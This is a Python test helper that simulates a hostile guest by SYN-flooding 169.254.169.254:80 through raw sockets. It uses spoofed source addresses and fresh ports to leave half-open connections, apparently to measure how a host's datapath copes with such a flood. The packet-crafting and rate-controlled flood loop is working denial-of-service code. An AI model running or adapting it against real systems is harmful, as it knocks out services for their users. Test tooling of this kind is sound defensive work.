"""A hostile guest: SYNs to 169.254.169.254:80 that are never completed,
at a fixed rate, from raw sockets (IP_HDRINCL).

Usage: syn_flood.py RATE SECONDS START [READY_FILE [NICE [CPU]]]

START is when to begin (Unix time): the packets are prepared first, so
several flooders can start together at a known time. READY_FILE, if given,
is created when the first SYN is about to go (a test waits for it).

NICE, if given, is added to the script's CPU niceness once its packets
are ready (a flooding guest burns its own vCPUs; here guests are processes
sharing the machine's cores, and the flood's kernel work, the datapath and
the server's SYN handling included, runs in this process's context).

CPU, if given, pins the script to that CPU before it prepares its packets,
for the same reason: on a hypervisor the flood's kernel work runs on the
flooding guest's vCPUs and its tap's vhost thread, not on every core of
the host.

Every SYN has a fresh source port (cycling through all 65535) and a source
address in 10.0.0.128/25 that no guest uses, so the SYN-ACKs the server
sends back are dropped by this guest's kernel (not its address) instead of
being answered with a RST: each SYN leaves a half-open connection behind,
as `hping3 --flood` with the guest's RSTs dropped does. The rate is kept
by sending in 2 ms batches (a flat-out loop would burn a core of this
2-core machine on Python instead of on the datapath).

Prints one JSON object: SYNs sent, send errors, start and end (Unix time).
"""

import json
import os
import random
import socket
import struct
import sys
import time

DST = socket.inet_aton("169.254.169.254")
BATCH_SECONDS = 0.002


def checksum(data):
    """RFC 1071 Internet checksum."""
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(src, sport, seq):
    """IPv4 + TCP SYN (the kernel fills the IP checksum and total length)."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, socket.IPPROTO_TCP, 0, src, DST)
    tcp = struct.pack("!HHIIBBHHH", sport, 80, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + DST + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    return ip + tcp


def main():
    rate, seconds, start_at = float(sys.argv[1]), float(sys.argv[2]), float(sys.argv[3])
    ready = sys.argv[4] if len(sys.argv) > 4 else None
    niceness = int(sys.argv[5]) if len(sys.argv) > 5 and sys.argv[5] else 0
    if len(sys.argv) > 6:
        os.sched_setaffinity(0, {int(sys.argv[6])})
    rng = random.Random()
    # One packet per source port, prepared up front so the loop only sends.
    packets = []
    for sport in range(1, 65536):
        src = bytes([10, 0, 0, 128 + rng.randrange(126)])
        packets.append(syn(src, sport, rng.getrandbits(32)))
    rng.shuffle(packets)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    per_batch = max(1, int(rate * BATCH_SECONDS))
    sent = errors = 0
    os.nice(niceness)
    time.sleep(max(0.0, start_at - time.time()))
    if ready:
        open(ready, "w").close()
    start = time.time()
    deadline = time.monotonic() + seconds
    next_batch = time.monotonic()
    i = 0
    while time.monotonic() < deadline:
        for _ in range(per_batch):
            try:
                sock.sendto(packets[i], ("169.254.169.254", 0))
                sent += 1
            except OSError:
                errors += 1
            i = (i + 1) % len(packets)
        next_batch += BATCH_SECONDS
        pause = next_batch - time.monotonic()
        if pause > 0:
            time.sleep(pause)
        elif pause < -BATCH_SECONDS:
            # Fell behind (this process runs niced): no catching up in a
            # burst, the rate is an upper bound.
            next_batch = time.monotonic()
    print(json.dumps({"sent": sent, "errors": errors, "start": start, "end": time.time()}))


if __name__ == "__main__":
    main()
